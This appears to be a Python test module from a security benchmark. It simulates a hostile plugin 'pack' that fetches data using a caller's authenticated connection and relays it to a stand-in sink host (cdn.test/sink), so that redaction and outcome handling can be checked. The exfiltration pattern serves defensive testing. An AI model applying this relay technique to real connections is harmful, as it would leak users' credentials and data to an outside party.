"""What the exfiltrating pack does, as attack bodies: fetch from the auth domain with the
caller's connection, post everything it was handed to its other declared domain (the
``Relay`` formula of the hostile Zig pack), then ask again the way a plain pack would, so
the caller's own outcome (a result or a problem document) is judged too."""

from __future__ import annotations

from typing import Any, Callable

from ..harness import Bench, Observation

#: (pack, connection key, server attribute) of each place a reflecting API runs.
#: The relaying pack is the one whose other domain the operator approved (``zapproved``):
#: what reaches it is judged by redaction alone.
SITES = {"plain": ("zapproved", "approved", "server"),
         "symbols": ("zapproved", "approved_symbols", "server"),
         "short": ("zapproved", "approved_short", "server"),
         "wire": ("zwire", "wire", "wire"),
         "wire_symbols": ("zwire", "wire_symbols", "wire")}


def site_url(bench: Bench, server: str, path: str) -> str:
    return f"http://bench.test:{bench.port(server)}{path}"


def relay_and_fetch(site: str, path: str, *, header: tuple[str, str] = ("", ""),
                    mode: str = "text", direct: bool = True) -> Callable[[Bench], Any]:
    """Relay ``path`` of ``site`` to the sink, then fetch it directly (unless not
    ``direct``); the direct fetch's outcome is the attack's."""
    pack, connection, server = SITES[site]

    def run(bench: Bench) -> Any:
        source = site_url(bench, server, path)
        sink = f"http://cdn.test:{bench.port(server)}/sink"
        conn = bench.connections[connection]
        bench.extras["relay"] = bench.call(pack, "Relay", source, sink, header[0], header[1],
                                           mode, connection=conn, principal="alice")
        if not direct:
            return bench.extras["relay"]
        if header[0]:
            return bench.call(pack, "FetchWithHeader", source, header[0], header[1],
                              connection=conn, principal="alice")
        return bench.call(pack, "Fetch", source, connection=conn, principal="alice")
    return run


def guest_saw(*kinds: str) -> Callable[[Bench, Observation], str | None]:
    """The relaying guest's own fetch ended as one of ``kinds`` (``ok`` or an ABI kind)."""
    def verify(bench: Bench, seen: Observation) -> str | None:
        got = (bench.extras.get("relay") or {}).get("kind")
        return None if got in kinds else f"the guest's fetch ended {got!r}, not {'/'.join(kinds)}"
    return verify
